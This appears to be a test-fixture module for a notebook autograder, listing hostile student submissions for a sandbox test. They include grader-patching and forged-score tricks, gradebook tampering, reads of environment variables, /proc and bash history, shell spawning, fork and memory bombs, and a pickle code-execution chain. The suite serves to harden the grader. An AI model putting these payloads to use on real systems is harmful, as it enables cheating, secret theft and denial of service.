"""The hostile class of 01_linear_algebra: one attack per student, each in ONE solution cell.

Each hostile student hands in the reference solution except for the cell of `function`,
which holds the attack: at the top of the cell, inside the function, or after an honest
function. Attacks that go after files, ports or processes read them from constants
(`COURSE_ROOT`, `GRADEBOOK`, `PORT`, `MARKER`, ...) that the test writes above the cell.
tests/hostile_submissions.py builds the course from these and grades it through
`nbgrader autograde` and `dlmath grade`; tests/test_hostile_autograde.py asserts that no
attack earns a point. Loaded by path (`dlmath.course.course_module`), never released.
"""

from __future__ import annotations

from dataclasses import dataclass


@dataclass(frozen=True)
class Attack:
    id: str  # the student id
    what: str  # the attack, for the table
    function: str  # the function whose solution cell holds the attack
    code: str  # the cell (after the prelude); {reference} is the honest function
    honest: bool = False  # the function itself is the reference: full marks expected
    worth: float = 0.0  # else: the points its function honestly deserves
    prelude: bool = True  # the targets' paths written at the top of the cell

    def cell(self, prelude: str, honest: str, find_paths: str) -> str:
        """The solution cell: `prelude` sets the targets' paths as constants, `honest` is the
        reference function, `find_paths` the memory search of the sealed worker's tests."""
        code = self.code.strip().replace("{reference}", honest).replace(
            "{find_paths}", find_paths) + "\n"
        return prelude + "\n" + code if self.prelude else code


IPC_KEY, IPC_QUEUE = 0x646C6D68, "/dlmath-hostile"  # what h34 plants and h35 looks for
IPC_PRELUDE = f'''
import ctypes
import os

libc = ctypes.CDLL(None, use_errno=True)
KEY, IPC_CREAT, MQ_NAME = {IPC_KEY:#x}, 0o1000, {IPC_QUEUE.encode()!r}
'''
ATTACKS = (
    Attack("h01_input_transformer", "an IPython input transformer rewrites graded cells to "
           "their maximum; transpose returns None", "transpose", '''
try:
    shell = get_ipython()
except NameError:  # not in a kernel? look for one
    import IPython
    shell = IPython.get_ipython()
forged = lambda lines: ["2\\n"] if any("dlmath" in line for line in lines) else lines
if shell is not None:
    shell.input_transformers_post.append(forged)
    shell.input_transformers_cleanup.append(forged)
print("input transformer installed:", shell is not None)


def transpose(A):
    return None  # wrong on purpose: only a forged grade could pay for it
'''),
    Attack("h02_patch_numpy_testing", "numpy.testing's asserts, np.allclose, np.isclose and "
           "np.array_equal patched to agree; matmul returns 7s", "matmul", '''
import numpy as np
import numpy.testing


def _agree(*args, **kwargs):
    return True


for name in dir(numpy.testing):
    if name.startswith("assert_"):
        setattr(numpy.testing, name, lambda *args, **kwargs: None)
np.allclose = np.array_equal = np.array_equiv = _agree
np.isclose = lambda a, b, *args, **kwargs: np.ones(np.broadcast(a, b).shape, dtype=bool)


def matmul(A, B):
    return np.full((A.shape[0], B.shape[1]), 7.0)
'''),
    Attack("h03_patch_torch", "torch imported and torch.allclose, equal, isclose, "
           "testing.assert_close and Tensor.__eq__ patched; dot returns a constant", "dot", '''
import torch
import torch.testing


def _agree(*args, **kwargs):
    return True


torch.allclose = torch.equal = _agree
torch.isclose = lambda a, b, *args, **kwargs: torch.ones_like(torch.as_tensor(a)).bool()
torch.testing.assert_close = lambda *args, **kwargs: None
torch.Tensor.__eq__ = lambda self, other: torch.ones_like(self).bool()


def dot(u, v):
    return 12345.678
'''),
    Attack("h04_fake_autograders", "fake `autograders`, `dlmath_graders` and `dlmath.grade` "
           "planted in sys.modules; vector_norm returns -1", "vector_norm", '''
import sys
import types


def full_marks(exercise="", points=0, **kwargs):
    print(f"{exercise}: {points} / {points} points (all checks passed)")
    return points


for name in ("autograders", "autograders.01_linear_algebra", "dlmath_graders",
             "dlmath_graders.01_linear_algebra",
             "dlmath_graders.01_linear_algebra.test_vector_norm", "pytest"):
    fake = types.ModuleType(name)
    fake.__path__ = []
    fake.test_matches_torch = lambda *args, **kwargs: None
    sys.modules[name] = fake
dlmath = types.ModuleType("dlmath")
dlmath.grade = full_marks
sys.modules["dlmath"] = dlmath
for name in ("dlmath.engine.runner", "dlmath.engine.compare", "dlmath.engine.results"):
    module = sys.modules.setdefault(name, types.ModuleType(name))
    module.run_exercise = module.grade = full_marks
    module.expect_close = lambda *args, **kwargs: None


def vector_norm(x, ord=2):
    return -1.0
'''),
    Attack("h05_read_autograders", "reads the repository's autograders/ and prints them "
           "(cosine_similarity honest)", "cosine_similarity", '''
{reference}


import os
for name in ("test_quiz.py", "test_cosine_similarity.py", "test_transpose.py"):
    try:
        print(open(os.path.join(AUTOGRADERS, name)).read())
    except OSError as exc:
        print("blocked:", type(exc).__name__)
print(os.listdir(AUTOGRADERS))  # last and unguarded: its error is the cell's
''', honest=True),
    Attack("h06_read_source", "reads the course's source/ notebooks and prints them "
           "(linear_forward honest)", "linear_forward", '''
{reference}


import glob
import os
for path in glob.glob(SOURCE + "/*") + [os.path.join(SOURCE, "quiz.ipynb")]:
    try:
        print(open(path).read())
    except OSError as exc:
        print("blocked:", type(exc).__name__)
print(open(os.path.join(SOURCE, "linear_algebra.ipynb")).read())
''', honest=True),
    Attack("h07_read_gradebook", "reads the gradebook with sqlite3 and as a file and prints "
           "it (linear_forward_columns honest)", "linear_forward_columns", '''
{reference}


import sqlite3
try:
    db = sqlite3.connect(f"file:{GRADEBOOK}?mode=ro", uri=True)
    for table in ("student", "grade", "source_cell"):
        print(db.execute(f"select * from {table}").fetchall())
except Exception as exc:
    print("blocked:", type(exc).__name__, exc)
with open(GRADEBOOK, "rb") as f:
    print("the gradebook holds:", f.read())
''', honest=True),
    Attack("h08_tamper_gradebook", "rewrites the gradebook (sqlite3 UPDATE, truncation, "
           "rename) and deletes it (batch_matmul honest)", "batch_matmul", '''
{reference}


import os
import sqlite3
try:
    db = sqlite3.connect(GRADEBOOK)
    db.execute("update grade set auto_score = 100")
    db.commit()
except Exception as exc:
    print("blocked:", type(exc).__name__, exc)
for attempt in (lambda: open(GRADEBOOK, "wb").write(b"forged"),
                lambda: os.rename(GRADEBOOK, GRADEBOOK + ".old")):
    try:
        attempt()
    except OSError as exc:
        print("blocked:", type(exc).__name__)
os.remove(GRADEBOOK)
''', honest=True),
    Attack("h09_tamper_submissions", "overwrites one student's submission, deletes another's "
           "quiz, plants a graded notebook (transpose honest)", "transpose", '''
{reference}


import json
import os
blank = json.dumps({"cells": [], "metadata": {}, "nbformat": 4, "nbformat_minor": 5})
for path in (VICTIM, PLANTED):
    try:
        with open(path, "w") as f:
            f.write(blank)
    except OSError as exc:
        print("blocked:", type(exc).__name__)
os.remove(VICTIM_QUIZ)
''', honest=True),
    Attack("h10_loop_top_level", "`while True: pass` at the top of the cell, before matmul is "
           "defined", "matmul", '''
while True:
    pass


{reference}
'''),
    Attack("h11_loop_in_function", "an infinite loop inside dot", "dot", '''
def dot(u, v):
    total = 0.0
    while True:
        total += 1.0
'''),
    Attack("h12_loop_unkillable_function", "inside vector_norm: ignores SIGTERM, SIGINT and "
           "SIGALRM, disarms the timer, loops swallowing KeyboardInterrupt", "vector_norm", '''
import signal


def vector_norm(x, ord=2):
    for sig in (signal.SIGTERM, signal.SIGINT, signal.SIGALRM):
        signal.signal(sig, signal.SIG_IGN)
    signal.setitimer(signal.ITIMER_REAL, 0)
    n = 0
    while True:
        try:
            n += 1
        except BaseException:  # KeyboardInterrupt, the grader's timeout: all swallowed
            pass
'''),
    Attack("h13_loop_unkillable_cell", "at the top of the cell: ignores SIGTERM, SIGINT and "
           "SIGALRM, loops swallowing KeyboardInterrupt", "cosine_similarity", '''
import signal

for sig in (signal.SIGTERM, signal.SIGINT, signal.SIGALRM):
    signal.signal(sig, signal.SIG_IGN)
signal.setitimer(signal.ITIMER_REAL, 0)
n = 0
while True:
    try:
        n += 1
    except BaseException:
        pass


{reference}
'''),
    Attack("h14_memory_bomb", "linear_forward allocates 1 GiB arrays until memory runs out",
           "linear_forward", '''
def linear_forward(X, W, b):
    hoard = []
    while True:
        hoard.append(np.empty(2**27))
'''),
    Attack("h15_fork_bomb", "linear_forward_columns forks in a loop (every child forks too)",
           "linear_forward_columns", '''
import os


def linear_forward_columns(W, X, b):
    started = 0
    for _ in range(30):
        try:
            os.fork()  # parent and child both go on: 2**30 processes
            started += 1
        except OSError:
            pass
    return None
'''),
    Attack("h16_shell", "os.system, os.posix_spawn and subprocess start programs "
           "(batch_matmul honest)", "batch_matmul", '''
{reference}


import os
import subprocess
command = f"touch {SHELL_TARGET}; sleep 120 # {MARKER}"
print("os.system returned", os.system(command))
try:
    os.posix_spawn("/bin/sh", ["sh", "-c", command], {})
except OSError as exc:
    print("blocked:", type(exc).__name__)
subprocess.run(["/bin/sh", "-c", command], check=False)
''', honest=True),
    Attack("h17_os_exit", "os._exit(0) at top level, after transpose is defined",
           "transpose", '''
{reference}


import os
os._exit(0)
'''),
    Attack("h18_sys_exit", "sys.exit(0) inside matmul", "matmul", '''
import sys


def matmul(A, B):
    sys.exit(0)
'''),
    Attack("h19_segfault", "dot segfaults through ctypes.string_at(0)", "dot", '''
import ctypes


def dot(u, v):
    return ctypes.string_at(0)
'''),
    Attack("h20_flood_stdout", "a gigabyte printed to stdout at top level (vector_norm "
           "honest)", "vector_norm", '''
{reference}


for _ in range(1000):
    print("x" * 10**6)
''', honest=True),
    Attack("h21_flood_stderr", "cosine_similarity writes a gigabyte to fd 2 and to "
           "sys.stderr, then returns the right value", "cosine_similarity", '''
import os
import sys


def cosine_similarity(u, v, eps=1e-8):
    block = "y" * 10**6
    for _ in range(1000):
        os.write(2, block.encode())
    for _ in range(1000):
        sys.stderr.write(block)
    denominator = max(np.sqrt(np.sum(u * u)) * np.sqrt(np.sum(v * v)), eps)
    return float(np.sum(u * v) / denominator)
'''),
    Attack("h22_always_equal", "linear_forward returns an object whose __eq__ is always "
           "true", "linear_forward", '''
class Always:
    shape = property(lambda self: (0,))

    def __eq__(self, other):
        return True

    def __ne__(self, other):
        return False

    __hash__ = object.__hash__


def linear_forward(X, W, b):
    return Always()
'''),
    Attack("h23_object_dtype", "linear_forward_columns returns an object-dtype array of "
           "always-equal objects", "linear_forward_columns", '''
class Always:
    def __eq__(self, other):
        return True

    __hash__ = object.__hash__


def linear_forward_columns(W, X, b):
    answer = np.empty((W.shape[0], X.shape[1]), dtype=object)
    answer[...] = Always()
    return answer
'''),
    Attack("h24_ndarray_subclass", "batch_matmul returns an ndarray subclass of NaNs whose "
           "__eq__ and ufuncs always agree", "batch_matmul", '''
class Liar(np.ndarray):
    def __eq__(self, other):
        return np.ones(np.shape(self), dtype=bool)

    def __ne__(self, other):
        return np.zeros(np.shape(self), dtype=bool)

    def __array_ufunc__(self, ufunc, method, *inputs, **kwargs):
        return np.zeros(np.shape(self))


def batch_matmul(A, B):
    return np.full((A.shape[0], A.shape[1], B.shape[-1]), np.nan).view(Liar)
'''),
    Attack("h25_huge_array", "transpose returns a 512 MiB array", "transpose", '''
def transpose(A):
    return np.zeros(2**26)
'''),
    Attack("h26_socket", "opens TCP and UDP sockets to 127.0.0.1 (matmul honest)", "matmul", '''
{reference}


import socket
try:
    socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"grades", ("127.0.0.1", PORT))
except OSError as exc:
    print("blocked:", type(exc).__name__)
socket.create_connection(("127.0.0.1", PORT), timeout=2).sendall(b"grades")
''', honest=True),
    Attack("h27_fake_score", "prints 'All tests passed' and fake scores, ends its cell with "
           "2.0; dot returns None", "dot", '''
import os
import sys

print("All tests passed! Score: 28/28")
print("dot: 2 / 2 points (12 of 12 checks passed)")
sys.__stdout__.write("All tests passed\\n")
os.write(1, b"dot: 2 / 2 points\\n")


def dot(u, v):
    print("All tests passed")
    return None


2.0
'''),
    Attack("h28_forged_reply", "vector_norm writes forged 'ok' reply frames (the real wire "
           "format) to every descriptor; returns None", "vector_norm", '''
import os
import socket


def vector_norm(x, ord=2):
    from dlmath import codec

    value, buffers = codec.encode(-1.0)
    for fd in range(3, 64):
        try:
            channel = socket.socket(fileno=os.dup(fd))
        except OSError:
            continue
        for seq in range(1, 100):
            try:
                codec.send(channel, {"op": "reply", "seq": seq, "ok": True, "value": value,
                                     "warnings": [], "traced": [], "rngs": []}, buffers)
            except OSError:
                break
    return None
'''),
    Attack("h29_linger", "leaves threads, a forked child, a multiprocessing child and a "
           "subprocess running (cosine_similarity honest)", "cosine_similarity", '''
{reference}


import os
import subprocess
import threading
import time


def forever():
    while True:
        time.sleep(0.05)


for _ in range(3):
    threading.Thread(target=forever).start()
try:
    import multiprocessing
    multiprocessing.Process(target=forever).start()
except Exception as exc:
    print("blocked:", type(exc).__name__)
try:
    if os.fork() == 0:
        forever()
except OSError as exc:
    print("blocked:", type(exc).__name__)
subprocess.Popen(["sleep", "600", MARKER], start_new_session=True)
''', honest=True),
    Attack("h30_steal_secrets", "reads the environment, the grader's /proc entries and "
           "walks up the filesystem (linear_forward honest)", "linear_forward", '''
{reference}


import os
print(dict(os.environ))
for path in ("/proc/self/environ", f"/proc/{os.getppid()}/environ", "/proc/1/environ",
             f"/proc/{os.getppid()}/cmdline", os.path.expanduser("~/.bash_history")):
    try:
        print(open(path, "rb").read())
    except OSError as exc:
        print("blocked:", type(exc).__name__)
print(os.listdir(os.path.dirname(os.path.dirname(GRADEBOOK))))
''', honest=True),
    Attack("h31_forbidden_bypass", "transpose uses the forbidden .T, hidden from the source "
           "check (getattr) and from the run-time trace (a plain view)", "transpose", '''
def transpose(A):
    plain = np.asarray(A).view(np.ndarray)  # not the grader's traced array
    return getattr(plain, "T").copy()  # .T, spelled so that the source has no `.T`
''', worth=1.0),  # correct, but built with .T: the forbidden check is half the points
    Attack("h32_forged_reply_in_call", "when called by the grader, matmul finds the request's "
           "sequence number on the stack and sends its own reply on the channel",
           "matmul", '''
import sys


def matmul(A, B):
    frame = sys._getframe(1)
    while frame is not None and not (frame.f_code.co_name == "call"
                                     and "header" in frame.f_locals):
        frame = frame.f_back
    if frame is None:  # run by a cell, not by the grader: look harmless
        return None
    from dlmath import codec

    worker, header = frame.f_locals["self"], frame.f_locals["header"]
    value, buffers = codec.encode(np.full((A.shape[0], B.shape[1]), 7.0))
    codec.send(worker.sock, {"op": "reply", "seq": header["seq"], "ok": True, "value": value,
                             "warnings": [], "traced": [], "rngs": []}, buffers)
    return None
'''),
    # --- issue 15: the course around the worker, state between workers, the thread limit
    Attack("h33_change_metadata", "chmod, chown, utime and xattr calls in every variant on "
           "the course root, its config, the gradebook, a source notebook, the graders, and "
           "on a Python file the worker may open (matmul honest)", "matmul", '''
{reference}


import os
import numpy

calls = {
    "chmod": lambda p: os.chmod(p, 0o777), "chmod 0": lambda p: os.chmod(p, 0),
    "lchmod": lambda p: os.chmod(p, 0o777, follow_symlinks=False),
    "utime": lambda p: os.utime(p, (0, 0)), "utime ns": lambda p: os.utime(p, ns=(0, 0)),
    "lutime": lambda p: os.utime(p, (0, 0), follow_symlinks=False),
    "chown": lambda p: os.chown(p, 12345, 12345), "lchown": lambda p: os.lchown(p, 0, 0),
    "setxattr": lambda p: os.setxattr(p, "user.dlmath", b"forged"),
    "lsetxattr": lambda p: os.setxattr(p, "user.dlmath", b"forged", follow_symlinks=False),
    "removexattr": lambda p: os.removexattr(p, "user.dlmath"),
}
for path in (COURSE_ROOT, CONFIG, GRADEBOOK, SOURCE + "/linear_algebra.ipynb", AUTOGRADERS):
    for name, call in calls.items():
        try:
            call(path)
            print("changed:", name, path)
        except OSError as exc:
            print("blocked:", name, type(exc).__name__)
fd = os.open(numpy.__file__, os.O_RDONLY)  # readable: change it to what it already is
mode = os.fstat(fd).st_mode & 0o7777
for name, call in {"fchmod": lambda: os.fchmod(fd, mode), "futime": lambda: os.utime(fd),
                   "fsetxattr": lambda: os.setxattr(fd, "user.dlmath", b"forged"),
                   "fchown": lambda: os.fchown(fd, -1, -1)}.items():
    try:
        call()
        print("changed:", name, numpy.__file__)
    except OSError as exc:
        print("blocked:", name, type(exc).__name__)
''', honest=True),
    Attack("h34_ipc_plant", "creates a 64 MiB System V shared memory segment, a message "
           "queue, a semaphore and a POSIX message queue for the next notebook to read "
           "(dot honest)", "dot", IPC_PRELUDE + '''
made = {"shm": libc.shmget(KEY, 2**26, IPC_CREAT | 0o666),
        "msg": libc.msgget(KEY, IPC_CREAT | 0o666),
        "sem": libc.semget(KEY, 1, IPC_CREAT | 0o666),
        "mq": libc.mq_open(MQ_NAME, os.O_CREAT | os.O_RDWR, 0o666, None)}
for kind, handle in made.items():
    print("made:" if handle >= 0 else "blocked:", kind, handle, ctypes.get_errno())


{reference}
''', honest=True),
    Attack("h35_ipc_find", "looks for what h34 planted (System V and POSIX IPC) "
           "(dot honest)", "dot", IPC_PRELUDE + '''
found = {"shm": libc.shmget(KEY, 0, 0), "msg": libc.msgget(KEY, 0),
         "sem": libc.semget(KEY, 0, 0), "mq": libc.mq_open(MQ_NAME, os.O_RDONLY)}
for kind, handle in found.items():
    print("found:" if handle >= 0 else "nothing:", kind, handle, ctypes.get_errno())


{reference}
''', honest=True),
    Attack("h36_threads", "starts 500 threads at the top of its cell (vector_norm honest)",
           "vector_norm", '''
{reference}


import threading

stop = threading.Event()
started = []
try:
    for _ in range(500):
        thread = threading.Thread(target=stop.wait, args=(10,), daemon=True)
        thread.start()
        started.append(thread)
except RuntimeError as exc:
    print("blocked:", exc)
stop.set()
print("threads started:", len(started))
''', honest=True),
    Attack("h37_find_paths", "searches its own memory (every object, the heap around them, "
           "the stack with the inherited command line and environment) for the course's "
           "paths; knows none of them (cosine_similarity honest)", "cosine_similarity", '''
{reference}


{find_paths}
''', honest=True, prelude=False),
    # --- issue 15: text no UTF-8 file can hold
    Attack("h40_surrogate_answers", "dot warns, returns a dict key and a str, and raises an "
           "exception of its own class, each holding a lone surrogate ('\\udcff')", "dot", '''
import warnings


def dot(u, v):
    warnings.warn("careful \\udcfe")
    if u.size == 1:
        return {"\\udcff": 1.0}  # a dict key no UTF-8 file can hold
    if u.size == 3:
        return "\\udcff"
    raise type("Odd", (ValueError,), {})("bad \\udcff news")
'''),
    Attack("h41_surrogate_output", "prints lone surrogates (print, sys.stdout.write, "
           "sys.stderr.write), writes invalid UTF-8 to fd 1, displays a repr holding one and "
           "raises with one at the top of its cell (vector_norm honest)", "vector_norm", '''
{reference}


import os
import sys


class Shown:
    def __repr__(self):
        return "shown \\udcff"


print("out \\udcff")
sys.stdout.write("write \\udcfe\\n")
sys.stderr.write("err \\udcfd\\n")
os.write(1, b"raw \\xff\\xfe\\n")
display(Shown())
raise ValueError("top \\udcff level")
''', honest=True),
    # --- issue 15: a figure snapshot that is not a figure
    Attack("h42_crafted_figure_snapshot", "replaces figures.snapshot in its worker: the "
           "snapshot sent for its figure writes an .npz with ndarray.tofile and loads it with "
           "numpy's pickle, to run code in the drawing worker and forge the PNG (transpose "
           "honest)", "transpose", '''
{reference}


import io
import pickle

import matplotlib.pyplot as plt
import numpy as np
from numpy.lib.npyio import NpzFile

import dlmath.sealed.figures as figures

FORGE = """
import dlmath.sealed.figures as f
f.draw = lambda figure, f=f: f.PNG_SIGNATURE + b"forged"
"""


class Call:  # pickles as function(*args)
    def __init__(self, function, *args):
        self.function, self.args = function, args

    def __reduce__(self):
        return self.function, self.args

    def __call__(self):  # pickle wants a callable where a call goes
        pass


npz = io.BytesIO()
np.savez(npz, a=np.array([Call(exec, FORGE)], dtype=object))
payload = np.frombuffer(npz.getvalue(), np.uint8).copy()
chain = [Call(Call(getattr, payload, "tofile"), "forged.npz"),  # into the drawer's scratch
         Call(Call(getattr, Call(NpzFile, "forged.npz", True, True), "get"), "a")]  # loaded
# the chain runs, if at all, while the snapshot is loaded: before any figure is looked at
figures.snapshot = lambda figure: pickle.dumps(({"chain": chain}, None), protocol=4)
plt.plot([1, 2, 3])
plt.show()
print("shown")
''', honest=True),
)
